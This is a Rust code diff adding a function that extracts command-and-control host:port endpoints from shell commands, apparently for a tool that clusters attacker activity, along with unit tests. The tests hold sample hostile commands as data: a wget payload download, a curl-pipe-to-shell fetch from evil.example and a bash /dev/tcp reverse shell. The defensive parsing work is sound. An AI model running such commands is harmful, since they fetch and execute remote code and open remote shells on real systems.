@@ -345,6 +345,38 @@ pub fn command_phase(command: &str) -> Option<&'static str> {
     }
 }
 
+/// The servers a command reaches out to, as `host:port`: URLs (http, https,
+/// ftp, tftp; default ports) and bash's `/dev/tcp/host/port`. What a dropper
+/// downloads from or a reverse shell calls back to is the attacker's
+/// infrastructure: shared, it ties actors together (spec G.4 high tier, G.5).
+pub fn c2_endpoints(command: &str) -> Vec<String> {
+    use regex::Regex;
+    use std::sync::OnceLock;
+    static URL: OnceLock<Regex> = OnceLock::new();
+    static DEV_TCP: OnceLock<Regex> = OnceLock::new();
+    let url = URL.get_or_init(|| {
+        Regex::new(r"(?i)\b(https?|ftp|tftp)://(\[[0-9a-f:]+\]|[a-z0-9.-]+)(?::(\d{1,5}))?").expect("valid regex")
+    });
+    let dev_tcp = DEV_TCP.get_or_init(|| Regex::new(r"(?i)/dev/tcp/([a-z0-9.-]+)/(\d{1,5})").expect("valid regex"));
+    let mut out: BTreeSet<String> = BTreeSet::new();
+    for c in url.captures_iter(command) {
+        let default = match c[1].to_ascii_lowercase().as_str() {
+            "https" => "443",
+            "ftp" => "21",
+            "tftp" => "69",
+            _ => "80",
+        };
+        let host = c[2].trim_end_matches('.').to_ascii_lowercase();
+        if !host.is_empty() {
+            out.insert(format!("{host}:{}", c.get(3).map_or(default, |p| p.as_str())));
+        }
+    }
+    for c in dev_tcp.captures_iter(command) {
+        out.insert(format!("{}:{}", c[1].to_ascii_lowercase(), &c[2]));
+    }
+    out.into_iter().collect()
+}
+
 // ---- connected components ----------------------------------------------------------
 
 /// Connected components of an undirected graph given as edges between labels.
@@ -606,6 +638,16 @@ mod tests {
         assert_eq!(Observation::from_json(&json!({"kd": "zz"})).kd_simhash, None);
         let c = CampaignView::from_json(&json!({"first": {"d1": ["discovery", 1600.0]}, "windows": [[0, 100]], "cohort": ["asn:1"]}));
         assert_eq!((c.first_phase["d1"].0.as_str(), c.windows.clone(), c.cohort.len()), ("discovery", vec![(0.0, 100.0)], 1));
+    }
+
+    #[test]
+    fn c2_endpoints_of_commands() {
+        assert_eq!(c2_endpoints("wget http://203.0.113.9/x.sh -O /tmp/x.sh"), vec!["203.0.113.9:80"]);
+        assert_eq!(c2_endpoints("curl -s HTTPS://Evil.Example:8443/a | sh; curl https://evil.example/b"),
+                   vec!["evil.example:443", "evil.example:8443"]);
+        assert_eq!(c2_endpoints("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), vec!["198.51.100.7:4444"]);
+        assert_eq!(c2_endpoints("tftp://10.0.0.1/boot"), vec!["10.0.0.1:69"]);
+        assert!(c2_endpoints("uname -a").is_empty());
     }
 
     #[test]
